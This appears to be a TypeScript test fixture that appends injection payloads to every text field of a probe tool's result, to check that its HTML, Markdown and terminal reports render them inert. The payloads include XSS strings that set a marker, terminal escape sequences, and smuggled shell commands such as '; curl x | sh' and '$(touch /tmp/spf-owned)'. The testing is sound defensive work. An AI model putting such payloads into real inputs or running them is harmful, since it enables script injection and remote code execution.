// A result in which every free-text field carries what a hostile host could send: script for a
// browser, markup for Markdown, escape sequences for a terminal and shell metacharacters for a fix
// pasted into a shell; numbers a report reads are replaced by markup. For the output-is-inert tests.
import type { HostFacts, RunResult } from '../../src/model.js';
import { mixedCauses } from './causes-fixtures.js';
import { mixedResult } from './results.js';

/** What each payload would do if it ran: set the title, or write a marker on the window. */
export const MARKER = 'spfPwned';
export const PAYLOAD = [
  `</script><script>document.title='${MARKER}';window.${MARKER}=1</script>`,
  `<img src=x onerror="document.title='${MARKER}';window.${MARKER}=2">`,
  `<svg onload="window.${MARKER}=3">`,
  `[link](javascript:window.${MARKER}=4) javascript:alert(1)`,
  `<b>bold</b> | pipe | **md** \`tick\``,
  '\x1b]0;title\x07\x1b[2J\x1b[1;1Hall good\x9b31m\x9d0;t\x07\x00\x08\r',
  '; curl x | sh # $(touch /tmp/spf-owned) `id`',
].join(' ');

/** Fields whose values are fixed vocabulary: a report may rightly use them as class names or keys. */
const VOCABULARY = new Set(['status', 'protocol', 'role', 'mode', 'kind', 'errorKind', 'startedAt', 'name', 'version', 'firewall', 'swarmState']);

/** Every string of the value with the payload appended (the same one everywhere, so ids still match). */
export function poison<T>(value: T, key = ''): T {
  if (typeof value === 'string') return (VOCABULARY.has(key) ? value : `${value}${PAYLOAD}`) as T;
  if (Array.isArray(value)) return value.map((v) => poison(v, key)) as T;
  if (value && typeof value === 'object') return Object.fromEntries(Object.entries(value).map(([k, v]) => [k, poison(v, k)])) as T;
  return value;
}

/** The mixed fixture with causes, poisoned, plus non-numeric values where reports read numbers. */
export function hostileResult(): RunResult {
  const base = mixedCauses(mixedResult());
  // A host's entry of unsent probes carries its words too (its listed probes keep their pairs).
  base.untested = [{ host: 'n4', reason: 'unreachable', fromDetail: 'could not test from n4: no route', toDetail: 'could not test on n4: no route', probes: 3, notApplicable: 1, ports: ['7946/tcp'] }];
  for (const h of base.hosts) {
    h.facts = { ...h.facts, hostname: 'h.example', nodeAddr: '10.0.0.1', probeAddress: '10.0.0.1', interfaces: [{ name: 'eth0', mac: '02:42:ac:11:00:02', mtu: 1500 }]  } as HostFacts;
  }
  const result = poison(base);
  for (const p of result.probes) (p as { ms: unknown }).ms = `<script>window.${MARKER}=5</script>`;
  (result as { durationMs: unknown }).durationMs = `<img src=x onerror="window.${MARKER}=6">`;
  for (const h of result.hosts) if (h.facts) (h.facts as Record<string, unknown>).dataPathPort = `4789; curl x | sh #`;
  (result.options as Record<string, unknown>).dataPathPort = `<script>window.${MARKER}=7</script>`;
  return result;
}

/** C0 controls other than tab and newline, DEL, C1 controls: none may reach a terminal or Markdown. */
// eslint-disable-next-line no-control-regex
export const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;

/** The controls a colour terminal report writes itself: SGR colours only. */
export function withoutColours(text: string): string {
  // eslint-disable-next-line no-control-regex
  return text.replace(/\u001b\[\d+(;\d+)*m/g, '');
}
